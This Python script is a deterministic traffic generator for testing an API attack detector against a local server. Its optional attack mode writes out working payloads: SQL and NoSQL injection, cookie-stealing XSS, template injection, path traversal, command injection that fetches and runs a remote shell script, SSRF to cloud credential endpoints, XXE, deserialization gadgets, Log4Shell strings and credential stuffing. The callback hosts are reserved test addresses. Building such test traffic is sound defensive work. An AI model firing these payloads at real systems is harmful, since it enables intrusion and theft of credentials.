#!/usr/bin/env python3
"""Deterministic HTTP/1.1 API client for tools/api_server.py (stdlib only).

It opens --connections keep-alive connections and sends
--requests-per-connection requests on each: GET/POST/PUT/DELETE/HEAD, JSON
bodies of ~600 bytes on POST/PUT, Bearer tokens obtained through
/api/v1/login on some connections, query strings, 401/403/404 cases, a
chunked response (/api/v1/export), one chunked request body, and, on an
extra connection of its own sent as raw bytes, one POST with
"Expect: 100-continue".

With --attacks, six more connections follow, as attackers and scanners
would open them against this API (40 requests marked "attack" with their
class, and a few ordinary ones: the attacker's own login and profile):
  nikto       scanner probes for /.env, /.git/config... (scanner)
  sqlmap      sqlmap's first probes (scanner), then its boolean, time,
              UNION and stacked SQL injections (sqli, also scanner)
  manual      a logged-in customer trying things by hand through a
              browser: SQL injection (UNION, ' OR '1'='1, SLEEP, PostgreSQL
              error-based), stored and reflected XSS, template injection,
              path traversal, command injection (sqli, xss, ssti,
              path_traversal, cmdi)
  script      an API-savvy script: SSRF to the cloud metadata service, XXE,
              NoSQL operator logins, serialized objects in a cookie or a
              body (ssrf, xxe, nosqli, deserialization)
  log4shell   ${jndi:...} in User-Agent, X-Api-Version and other headers
              (jndi)
  stuffing    a burst of logins from a leaked combo list
              (credential_stuffing)

What it sends is a function of --seed alone (given the server's seed), so
two runs produce the same requests. At the end it writes a JSON summary
(stdout, or --summary FILE) of every request, per connection and in order,
with the connection's local port, so a test can compare what apiradar saw
with what really happened:

  {"server": "10.77.0.2:8080", "seed": 1,
   "connections": [{"index": 0, "local_ip": "...", "local_port": 41234,
                    "kind": "keepalive", "host": "...",
                    "requests": [{"method": "GET", "path": "/api/v1/users?page=1",
                                  "status": 200, "host": "...",
                                  "req_body_len": 0, "resp_body_len": 1834,
                                  "local_port": 41234, ...}, ...]}, ...],
   "totals": {"connections": 21, "requests": 201, "by_method": {...},
              "by_status": {...}}}

Attack requests also carry "attack": CLASS, "user_agent", and where a
second class applies (sqlmap's injections) "attack_also": [CLASS]; the
request whose response exposes payment data carries "exposes": [{"type":
"credit_card" | "iban", "value": ...}]; totals gain "attacks": {"requests":
N, "by_class": {...}}.
"""

import argparse
import base64
import http.client
import json
import random
import socket
import string
import struct
import sys
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

USER_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0 Safari/537.36",
    "okhttp/4.12.0",
    "python-requests/2.31.0",
    "MyShopApp/3.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "curl/8.5.0",
    "Go-http-client/1.1",
]
CATEGORIES = ["books", "games", "garden", "kitchen", "music", "office",
              "sports", "toys"]
FILLER = ("Please leave the parcel at the back door if nobody answers. "
          "Gift wrap the second item and do not include the invoice. ")
N_USERS = 50  # the server's user ids are 1..50


class Conn:
    """One keep-alive connection and the state its requests build up."""

    def __init__(self, args, index, rnd):
        self.args = args
        self.index = index
        self.rnd = rnd
        self.hosts = args.host_header or []
        self.host_header = (self.hosts[index % len(self.hosts)] if self.hosts
                            else f"{args.host}:{args.port}")
        self.ua = USER_AGENTS[rnd.randrange(len(USER_AGENTS))]
        self.uid = rnd.randint(1, N_USERS)
        self.username = None
        self.token = None
        self.created = []  # order ids this connection created
        self.seen_orders = []  # order ids read from the user's order list
        self.http = http.client.HTTPConnection(args.host, args.port,
                                               timeout=args.timeout)
        self.records = []
        self.local = None

    # ---- transport ------------------------------------------------------
    def send(self, method, path, body=None, auth=False, extra=None,
             chunked=False, data=None):
        """One request: `body` is sent as JSON, `data` (bytes) as it is,
        with the Content-Type given in `extra`."""
        headers = {"User-Agent": self.ua, "Accept": "application/json"}
        if self.hosts:
            headers["Host"] = self.host_header
        if auth and self.token:
            headers["Authorization"] = f"Bearer {self.token}"
        raw = b""
        if body is not None:
            raw = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        elif data is not None:
            raw = data
        headers.update(extra or {})
        if chunked:
            # http.client frames an iterable body as chunks when told to.
            pieces = [raw[i:i + 200] for i in range(0, len(raw), 200)]
            self.http.request(method, path, body=iter(pieces), headers=headers,
                              encode_chunked=True)
        else:
            self.http.request(method, path,
                              body=raw if body is not None or data is not None else None,
                              headers=headers)
        if self.local is None:
            self.local = self.http.sock.getsockname()
        resp = self.http.getresponse()
        data = resp.read()
        port = self.http.sock.getsockname()[1] if self.http.sock else None
        rec = {"method": method, "path": path, "status": resp.status,
               "host": self.host_header, "req_body_len": len(raw),
               "resp_body_len": len(data), "local_port": port or self.local[1]}
        if chunked:
            rec["req_chunked"] = True
        if "chunked" in (resp.getheader("Transfer-Encoding") or "").lower():
            rec["resp_chunked"] = True
        if "Authorization" in headers:
            rec["auth"] = "bearer"
        self.records.append(rec)
        if resp.will_close:
            # The server closed; http.client would reconnect silently on a
            # new port: note it so the summary stays truthful.
            rec["server_closed"] = True
        try:
            return resp, json.loads(data) if data and resp.getheader(
                "Content-Type", "").startswith("application/json") else None
        except ValueError:
            return resp, None

    # ---- request bodies -------------------------------------------------
    def order_body(self):
        r = self.rnd
        items = [{"product_id": r.randint(1, 120), "qty": r.randint(1, 4),
                  "unit_price": round(r.uniform(2, 300), 2)}
                 for _ in range(r.randint(2, 4))]
        body = {"user_id": self.uid, "currency": "USD", "items": items,
                "shipping": {"name": f"Customer {self.uid}",
                             "street": f"{r.randint(1, 999)} Market St",
                             "city": "Springfield", "zip": f"{r.randint(10000, 99999)}",
                             "country": "US", "phone": f"+1-555-{r.randint(100, 999)}-"
                                                       f"{r.randint(1000, 9999)}"},
                "client_ref": str(uuid.UUID(int=r.getrandbits(128), version=4)),
                "note": ""}
        return self.pad(body, 560 + r.randint(0, 80))

    def user_patch(self):
        r = self.rnd
        body = {"name": f"Updated Name {r.randint(1, 999)}",
                "phone": f"+1-555-{r.randint(100, 999)}-{r.randint(1000, 9999)}",
                "address": {"street": f"{r.randint(1, 999)} Harbor Rd",
                            "city": "Lakeside", "zip": f"{r.randint(10000, 99999)}",
                            "country": "US"},
                "preferences": {"newsletter": r.random() < 0.5,
                                "language": r.choice(["en", "de", "fr", "es"]),
                                "theme": r.choice(["light", "dark"])},
                "bio": ""}
        return self.pad(body, 560 + r.randint(0, 80), key="bio")

    @staticmethod
    def pad(body, target, key="note"):
        """Fill one text field so the JSON is about `target` bytes."""
        n = target - len(json.dumps(body))
        body[key] = (FILLER * (n // len(FILLER) + 1))[:max(n, 0)]
        return body

    # ---- the request mix --------------------------------------------------
    def login(self, wrong_first=False):
        resp, user = self.send("GET", f"/api/v1/users/{self.uid}")
        self.username = user["username"] if user else f"user{self.uid}"
        if wrong_first:
            self.send("POST", "/api/v1/login",
                      {"username": self.username, "password": "letmein"})
        resp, tok = self.send("POST", "/api/v1/login",
                              {"username": self.username,
                               "password": f"pw-{self.username}"})
        if resp.status == 200 and tok:
            self.token = tok["token"]

    def one(self):
        """One request chosen by weight from the mix."""
        r = self.rnd
        actions = [
            (10, self.a_list_users), (10, self.a_get_user), (6, self.a_me),
            (5, self.a_put_user), (8, self.a_user_orders), (10, self.a_post_order),
            (8, self.a_get_order), (5, self.a_delete_order), (12, self.a_products),
            (3, self.a_export), (4, self.a_admin), (3, self.a_health),
            (3, self.a_unknown),
        ]
        total = sum(w for w, _ in actions)
        x = r.uniform(0, total)
        for w, fn in actions:
            x -= w
            if x <= 0:
                return fn()
        return actions[-1][1]()

    def a_list_users(self):
        r = self.rnd
        self.send("GET", f"/api/v1/users?page={r.randint(1, 6)}&limit={r.choice([5, 8, 10])}",
                  auth=True)

    def a_get_user(self):
        # Ids up to 60: some hit 404; with a token, this is the kind of
        # walk over other users' ids a BOLA detector should notice.
        self.send("GET", f"/api/v1/users/{self.rnd.randint(1, 60)}", auth=True)

    def a_me(self):
        self.send("GET", "/api/v1/users/me", auth=True)

    def a_put_user(self):
        self.send("PUT", f"/api/v1/users/{self.uid}", self.user_patch(), auth=True)

    def a_user_orders(self):
        resp, body = self.send("GET", f"/api/v1/users/{self.uid}/orders", auth=True)
        if body:
            self.seen_orders = [o["id"] for o in body.get("items", [])]

    def a_post_order(self, chunked=False):
        resp, body = self.send("POST", "/api/v1/orders", self.order_body(),
                               auth=True, chunked=chunked)
        loc = resp.getheader("Location")
        if resp.status == 201 and loc:
            self.created.append(loc.rsplit("/", 1)[1])

    def a_get_order(self):
        pool = self.created + self.seen_orders
        oid = (self.rnd.choice(pool) if pool and self.rnd.random() < 0.85
               else str(uuid.UUID(int=self.rnd.getrandbits(128), version=4)))
        self.send("GET", f"/api/v1/orders/{oid}", auth=True)

    def a_delete_order(self):
        if self.created and self.rnd.random() < 0.8:
            oid = self.created.pop(0)
        else:
            oid = str(uuid.UUID(int=self.rnd.getrandbits(128), version=4))
        self.send("DELETE", f"/api/v1/orders/{oid}", auth=True)

    def a_products(self):
        r = self.rnd
        q = f"category={r.choice(CATEGORIES)}&page={r.randint(1, 2)}"
        if r.random() < 0.3:
            q += "&sort=price&order=desc"
        self.send("GET", f"/api/v2/products?{q}")

    def a_export(self):
        self.send("GET", f"/api/v1/export?format=ndjson&limit={self.rnd.randint(5, 15)}",
                  auth=True)

    def a_admin(self):
        self.send("GET", self.rnd.choice(["/api/v1/admin/stats", "/api/v1/admin/users"]),
                  auth=True)

    def a_health(self):
        self.send("GET", "/health", extra={"Accept": "text/plain"})

    def a_unknown(self):
        self.send("GET", self.rnd.choice(["/api/v1/does-not-exist", "/api/v3/users",
                                          "/favicon.ico", "/api/v1/users/abc"]))

    def a_head(self):
        self.send("HEAD", "/api/v1/users?page=1&limit=5")

    # ---- a whole connection ---------------------------------------------
    def run(self, m):
        r = self.rnd
        plan = []  # callables, m of them in the end
        kind = r.random()
        if kind < 0.65 and m >= 3:
            wrong = r.random() < 0.2 and m >= 4
            plan.append(lambda: self.login(wrong_first=wrong))
            used = 3 if wrong else 2  # login() sends 2 (or 3) requests
        else:
            used = 0
        # Fixed extras, so every run has them: a HEAD on connection 0 and
        # a chunked request body on connection 1.
        if self.index == 0 and m - used >= 1:
            plan.append(self.a_head)
            used += 1
        if self.index == 1 and m - used >= 1:
            plan.append(lambda: self.a_post_order(chunked=True))
            used += 1
        while used < m:
            plan.append(self.one)
            used += 1
        for step in plan:
            step()
            if self.args.think_ms:
                time.sleep(self.args.think_ms / 1000.0)
        self.http.close()
        return {"index": self.index, "kind": "keepalive",
                "local_ip": self.local[0] if self.local else None,
                "local_port": self.local[1] if self.local else None,
                "host": self.host_header, "user_agent": self.ua,
                "requests": self.records}


def expect_continue(args, index, rnd):
    """One POST with Expect: 100-continue on a connection of its own, as raw
    bytes: http.client would send the body without waiting for the 100."""
    host = args.host_header[0] if args.host_header else f"{args.host}:{args.port}"
    body = json.dumps({"user_id": 1, "currency": "USD",
                       "items": [{"product_id": 7, "qty": 2, "unit_price": 19.99}],
                       "client_ref": str(uuid.UUID(int=rnd.getrandbits(128), version=4)),
                       "note": (FILLER * 6)[:420]}).encode()
    sock = socket.create_connection((args.host, args.port), timeout=args.timeout)
    local = sock.getsockname()
    head = (f"POST /api/v1/orders HTTP/1.1\r\nHost: {host}\r\n"
            f"User-Agent: curl/8.5.0\r\nAccept: application/json\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
            f"Expect: 100-continue\r\n\r\n").encode()
    sock.sendall(head)
    interim = b""
    while b"\r\n\r\n" not in interim:
        chunk = sock.recv(1024)
        if not chunk:
            break
        interim += chunk
    interim_status = int(interim.split(b" ", 2)[1]) if interim.startswith(b"HTTP/") else None
    sock.sendall(body)
    resp = http.client.HTTPResponse(sock, method="POST")
    resp.begin()
    data = resp.read()
    sock.close()
    rec = {"method": "POST", "path": "/api/v1/orders", "status": resp.status,
           "host": host, "req_body_len": len(body), "resp_body_len": len(data),
           "local_port": local[1], "expect_100": True,
           "interim_status": interim_status}
    return {"index": index, "kind": "expect-100-continue", "local_ip": local[0],
            "local_port": local[1], "host": host, "user_agent": "curl/8.5.0",
            "requests": [rec]}


# ---- attack traffic (--attacks) ---------------------------------------------
# Hosts that attack payloads call back to: a TEST-NET-2 address and a
# reserved example domain, so nothing in a capture points anywhere real.
CALLBACK_IP = "198.51.100.23"
OAST_HOST = "oast.example.net"
SQLMAP_UA = "sqlmap/1.7.2#stable (https://sqlmap.org)"
NIKTO_UA = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})"
FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
SCRIPT_UA = "python-requests/2.28.1"
STUFFING_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/118.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/16.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:119.0) Gecko/20100101 Firefox/119.0",
]
# A leaked combo list, as credential stuffing replays them: addresses and
# passwords from other sites' breaches, none of them valid here.
COMBOS = [("jsmith@example.org", "Summer2023!"), ("admin", "admin123"),
          ("mike.jones@example.net", "qwerty123"), ("alan.turing@example.com", "letmein"),
          ("sarah.connor@example.org", "iloveyou1"), ("k.thompson@example.com", "Welcome1"),
          ("test@example.com", "123456789"), ("grace.h@example.net", "Dragon2024"),
          ("linus@example.com", "P@ssw0rd"), ("d.knuth@example.org", "football7")]


def enc(value, safe="/:,=()*$!"):
    """Percent-encode a payload the way a browser or a proxy tool sends
    it: spaces, quotes, <, >, ;, & and the like encoded, the rest as is."""
    return quote(value, safe=safe)


def java_urldns(host):
    """A Java serialization stream (ysoserial's URLDNS gadget: a HashMap
    holding a java.net.URL) that looks `host` up when deserialized."""
    def utf(b):
        return struct.pack(">H", len(b)) + b
    ref = b"q\x00~\x00\x03"
    b = (b"\xac\xed\x00\x05sr" + utf(b"java.util.HashMap") + bytes.fromhex("0507dac1c31660d1")
         + b"\x03\x00\x02F" + utf(b"loadFactor") + b"I" + utf(b"threshold") + b"xp"
         + bytes.fromhex("3f4000000000000c") + b"w\x08" + bytes.fromhex("0000001000000001")
         + b"sr" + utf(b"java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03\x00\x07"
         + b"I" + utf(b"hashCode") + b"I" + utf(b"port") + b"L" + utf(b"authority")
         + b"t" + utf(b"Ljava/lang/String;") + b"L" + utf(b"file") + ref + b"L" + utf(b"host")
         + ref + b"L" + utf(b"protocol") + ref + b"L" + utf(b"ref") + ref + b"xp"
         + b"\xff" * 8 + b"t" + utf(host) + b"t\x00\x00q\x00~\x00\x05t" + utf(b"http")
         + b"pxt" + utf(b"http://" + host) + b"x")
    return base64.b64encode(b).decode()


class AttackConn(Conn):
    """One attacker's or scanner's keep-alive connection. hit() sends a
    malicious request and marks its record with the attack class."""

    def __init__(self, args, index, rnd, profile, ua, accept="application/json"):
        super().__init__(args, index, rnd)
        self.profile = profile
        self.ua = ua
        self.accept = accept
        self.uid = rnd.randint(3, N_USERS)  # a customer's account, not an admin's

    def hit(self, cls, method, path, body=None, data=None, headers=None, auth=False,
            also=None):
        extra = {"Accept": self.accept}
        extra.update(headers or {})
        out = self.send(method, path, body, auth=auth, extra=extra, data=data)
        rec = self.records[-1]
        rec["attack"] = cls
        if also:
            rec["attack_also"] = list(also)
        rec["user_agent"] = extra.get("User-Agent", self.ua)
        return out

    def plain(self, method, path, auth=False):
        """An ordinary request from the attacker (no "attack" mark)."""
        return self.send(method, path, auth=auth, extra={"Accept": self.accept})

    def token4(self):
        return "".join(self.rnd.choice(string.ascii_letters) for _ in range(4))

    def summary(self):
        self.http.close()
        for rec in self.records:
            rec.setdefault("user_agent", self.ua)
        return {"index": self.index, "kind": "attack", "profile": self.profile,
                "local_ip": self.local[0] if self.local else None,
                "local_port": self.local[1] if self.local else None,
                "host": self.host_header, "user_agent": self.ua,
                "requests": self.records}


def atk_nikto(c):
    r = c.rnd
    for path in r.sample(["/.env", "/.git/config", "/server-status", "/phpinfo.php",
                          "/backup.sql"], 2):
        c.hit("scanner", "GET", path,
              headers={"User-Agent": NIKTO_UA.format(r.randint(1, 8000))})


def atk_sqlmap(c):
    r = c.rnd
    # sqlmap first checks that the page is stable, then throws a
    # heuristic string of quotes and brackets at the parameter.
    c.hit("scanner", "GET", "/api/v2/products?q=lamp")
    junk = "".join(r.sample("'\"().,", 6))
    c.hit("scanner", "GET", "/api/v2/products?q=" + enc("lamp" + junk, safe=""))
    n1, n2 = r.randint(1000, 9999), r.randint(1000, 9999)
    t1, t2 = c.token4(), c.token4()
    payloads = [
        f"lamp' AND {n1}={n1} AND '{t1}'='{t1}",
        f"lamp' AND (SELECT {n2} FROM (SELECT(SLEEP(5))){t2}) AND '{t1}'='{t1}",
        f"lamp' UNION ALL SELECT NULL,NULL,CONCAT(0x716a787071,0x{n1:x}{n2:x},"
        "0x7176706271),NULL,NULL,NULL-- -",
        "lamp';SELECT SLEEP(5)#",
        f"lamp' OR NOT {n2}={n2 + 1}-- {t2}",
    ]
    chosen = [payloads[2]] + r.sample(payloads[:2] + payloads[3:], 3)
    for p in chosen:
        c.hit("sqli", "GET", "/api/v2/products?q=" + enc(p, safe=""), also=["scanner"])


def atk_manual(c):
    r = c.rnd
    c.login()  # the attacker's own, ordinary account
    c.plain("GET", "/api/v1/users/me", auth=True)
    resp, pay = c.plain("GET", f"/api/v1/users/{c.uid}/payment", auth=True)
    if resp.status == 200 and pay:
        c.records[-1]["exposes"] = (
            [{"type": "credit_card", "value": k["number"]} for k in pay["cards"]]
            + [{"type": "iban", "value": pay["payout_account"]["iban"]}])

    def put(cls, field, value):
        body = c.user_patch()
        body[field] = value
        return lambda: c.hit(cls, "PUT", f"/api/v1/users/{c.uid}", body, auth=True)

    def get(cls, path):
        return lambda: c.hit(cls, "GET", path, auth=True)
    steps = [
        get("sqli", "/api/v2/products?q=" + enc("1' UNION SELECT username,password FROM users--")),
        get("sqli", "/api/v2/products?category=" + enc("books' OR '1'='1")),
        get("sqli", "/api/v2/products?q=" + enc("lamp' AND SLEEP(5)-- -")),
        get("sqli", "/api/v1/users?page=1&sort=" + enc("name,CAST((SELECT version()) AS int)")),
    ]
    xss = [put("xss", "name", "<script>alert(document.cookie)</script>"),
           put("xss", "bio", f"<img src=x onerror=fetch('//{CALLBACK_IP}/c?'+document.cookie)>"),
           get("xss", "/api/v2/products?q=" + enc('"><svg/onload=alert(1)>')),
           put("xss", "bio", '<a href="javascript:alert(document.domain)">my site</a>')]
    steps += [xss[0]] + r.sample(xss[1:], 2)
    ssti = [put("ssti", "name", "{{config.__class__.__init__.__globals__['os'].popen('id')"
                                ".read()}}"),
            get("ssti", "/api/v2/products?q=" + enc("${7*7}")),
            get("ssti", "/api/v2/products?q=" + enc("<%= 7*7 %>"))]
    steps += [get("ssti", "/api/v2/products?q=" + enc("{{7*7}}")), r.choice(ssti)]
    trav = [get("path_traversal", "/api/v1/export?file=..%252f..%252f..%252f..%252fetc%252fpasswd"),
            get("path_traversal", "/api/v1/export?file=" + enc("..\\..\\..\\..\\windows\\win.ini"))]
    steps += [get("path_traversal", "/api/v1/export?file=../../../../etc/passwd"),
              get("path_traversal", "/api/v1/export?file=....//....//....//....//etc/passwd"),
              r.choice(trav)]
    cmdi = [get("cmdi", "/api/v1/admin/diagnostics?host=" + enc("127.0.0.1|id")),
            get("cmdi", "/api/v1/export?format=" + enc("ndjson`id`")),
            get("cmdi", "/api/v1/admin/diagnostics?host=" + enc(
                f"127.0.0.1 && wget http://{CALLBACK_IP}/x.sh -O- | sh"))]
    steps += [get("cmdi", "/api/v1/admin/diagnostics?host=" + enc("127.0.0.1;cat /etc/passwd")),
              get("cmdi", "/api/v1/export?format=" + enc("ndjson$(id)")),
              r.choice(cmdi)]
    r.shuffle(steps)
    for step in steps:
        step()


def atk_script(c):
    r = c.rnd
    c.login()
    meta = "http://169.254.169.254/latest/meta-data/iam/"
    steps = [
        lambda: c.hit("ssrf", "GET", "/api/v1/preview?url=" + enc(meta)),
        lambda: c.hit("ssrf", "POST", "/api/v1/webhooks",
                      {"url": meta + "security-credentials/", "events": ["order.created"]},
                      auth=True),
        r.choice([
            lambda: c.hit("ssrf", "GET", "/api/v1/preview?url=" + enc(
                "http://metadata.google.internal/computeMetadata/v1/instance/"
                "service-accounts/default/token")),
            lambda: c.hit("ssrf", "GET", "/api/v1/preview?url=" + enc(
                "gopher://127.0.0.1:6379/_INFO%0d%0a", safe="/:")),
            lambda: c.hit("ssrf", "GET", "/api/v1/preview?url=" + enc(
                "http://127.0.0.1:2375/containers/json"))]),
    ]
    xml = "application/xml"
    local = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE orders [\n'
             '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
             '<orders><order><sku>SKU-104233</sku><qty>1</qty><note>&xxe;</note></order>'
             '</orders>\n')
    oob = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE orders [\n'
           f'  <!ENTITY % dtd SYSTEM "http://{CALLBACK_IP}:8000/evil.dtd">\n  %dtd;\n]>\n'
           '<orders><order><sku>SKU-104233</sku><qty>1</qty><note>&send;</note></order>'
           '</orders>\n')
    steps += [lambda: c.hit("xxe", "POST", "/api/v1/orders/import", data=local.encode(),
                            headers={"Content-Type": xml}),
              lambda: c.hit("xxe", "POST", "/api/v1/orders/import", data=oob.encode(),
                            headers={"Content-Type": xml})]
    steps += [
        lambda: c.hit("nosqli", "POST", "/api/v1/login",
                      {"username": {"$ne": None}, "password": {"$ne": None}}),
        r.choice([
            lambda: c.hit("nosqli", "POST", "/api/v1/login",
                          {"username": "admin", "password": {"$gt": ""}}),
            lambda: c.hit("nosqli", "POST", "/api/v1/login",
                          {"username": {"$regex": "^ad"}, "password": {"$ne": "x"}}),
            lambda: c.hit("nosqli", "GET", "/api/v1/users?page=1&" + enc(
                "username[$ne]", safe="") + "=guest")]),
    ]
    php = ('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";'
           'O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";'
           's:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}')
    pickle = base64.b64encode(b"cposix\nsystem\n(S'id'\ntR.").decode()
    order = c.order_body()
    order["note"] = php
    steps += [
        lambda: c.hit("deserialization", "GET", "/api/v1/users/me", headers={
            "Cookie": "session=" + java_urldns(f"{c.token4().lower()}.{OAST_HOST}".encode())}),
        r.choice([
            lambda: c.hit("deserialization", "POST", "/api/v1/orders", order, auth=True),
            lambda: c.hit("deserialization", "GET", "/api/v1/users/me",
                          headers={"X-Session-State": pickle}, auth=True)]),
    ]
    r.shuffle(steps)
    for step in steps:
        step()


def atk_log4shell(c):
    r = c.rnd
    cb = f"{CALLBACK_IP}:1389/{c.token4()}"
    placements = [
        ("GET", "/", {"User-Agent": "${jndi:ldap://" + cb + "}"}),
        ("GET", "/api/v1/users?page=1", {"X-Api-Version": "${jndi:ldap://" + cb + "}"}),
        ("GET", "/health", {"Referer": "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://"
                                       + cb + "}"}),
        ("GET", "/api/v2/products", {"X-Forwarded-For": "${${lower:j}ndi:${lower:d}${lower:n}s://"
                                                        + f"{c.token4().lower()}.{OAST_HOST}"
                                                        + "}"}),
    ]
    for method, path, h in placements[:2] + r.sample(placements[2:], 1):
        c.hit("jndi", method, path, headers=h)


def atk_stuffing(c):
    r = c.rnd
    for user, pw in r.sample(COMBOS, 5):
        c.hit("credential_stuffing", "POST", "/api/v1/login",
              {"username": user, "password": pw},
              headers={"User-Agent": r.choice(STUFFING_UAS)})


ATTACKERS = [
    ("nikto", atk_nikto, NIKTO_UA.format(0), "*/*"),
    ("sqlmap", atk_sqlmap, SQLMAP_UA, "*/*"),
    ("manual", atk_manual, FIREFOX_UA, "application/json, text/plain, */*"),
    ("script", atk_script, SCRIPT_UA, "*/*"),
    ("log4shell", atk_log4shell, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36", "*/*"),
    ("stuffing", atk_stuffing, STUFFING_UAS[0], "application/json"),
]


def run_attacks(args, first_index):
    """The attack connections, one after the other, numbered from
    first_index; each has its own RNG, seeded by --seed and its name."""
    out = []
    for k, (name, fn, ua, accept) in enumerate(ATTACKERS):
        c = AttackConn(args, first_index + k, random.Random(f"{args.seed}:attack:{name}"),
                       name, ua, accept)
        fn(c)
        out.append(c.summary())
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--host", default="127.0.0.1", help="server address")
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--connections", type=int, default=5)
    ap.add_argument("--requests-per-connection", type=int, default=10)
    ap.add_argument("--parallel", type=int, default=1,
                    help="connections open at once (1: one after the other)")
    ap.add_argument("--host-header", action="append",
                    help="Host header value (repeat: connection i uses the "
                         "i-th modulo the count); default host:port")
    ap.add_argument("--no-expect", action="store_true",
                    help="skip the extra Expect: 100-continue connection")
    ap.add_argument("--think-ms", type=float, default=0,
                    help="pause between requests on a connection")
    ap.add_argument("--timeout", type=float, default=10)
    ap.add_argument("--summary", help="write the JSON summary here, not stdout")
    ap.add_argument("--attacks", action="store_true",
                    help="add the attack connections (after all others)")
    args = ap.parse_args()

    n, m = args.connections, args.requests_per_connection
    # Each connection has its own RNG, so its requests do not depend on how
    # connections interleave when --parallel > 1.
    conns = [Conn(args, i, random.Random(f"{args.seed}:{i}")) for i in range(n)]
    if args.parallel > 1:
        with ThreadPoolExecutor(args.parallel) as ex:
            results = list(ex.map(lambda c: c.run(m), conns))
    else:
        results = [c.run(m) for c in conns]
    if not args.no_expect:
        results.append(expect_continue(args, n, random.Random(f"{args.seed}:expect")))
    if args.attacks:
        results += run_attacks(args, len(results))

    by_method, by_status = {}, {}
    for c in results:
        for rq in c["requests"]:
            by_method[rq["method"]] = by_method.get(rq["method"], 0) + 1
            by_status[str(rq["status"])] = by_status.get(str(rq["status"]), 0) + 1
    summary = {"server": f"{args.host}:{args.port}", "seed": args.seed,
               "connections": results,
               "totals": {"connections": len(results),
                          "requests": sum(len(c["requests"]) for c in results),
                          "by_method": dict(sorted(by_method.items())),
                          "by_status": dict(sorted(by_status.items()))}}
    if args.attacks:
        by_class = {}
        for c in results:
            for rq in c["requests"]:
                if "attack" in rq:
                    by_class[rq["attack"]] = by_class.get(rq["attack"], 0) + 1
        summary["totals"]["attacks"] = {"requests": sum(by_class.values()),
                                        "by_class": dict(sorted(by_class.items()))}
    text = json.dumps(summary, indent=1) + "\n"
    if args.summary:
        with open(args.summary, "w") as f:
            f.write(text)
    else:
        sys.stdout.write(text)


if __name__ == "__main__":
    main()
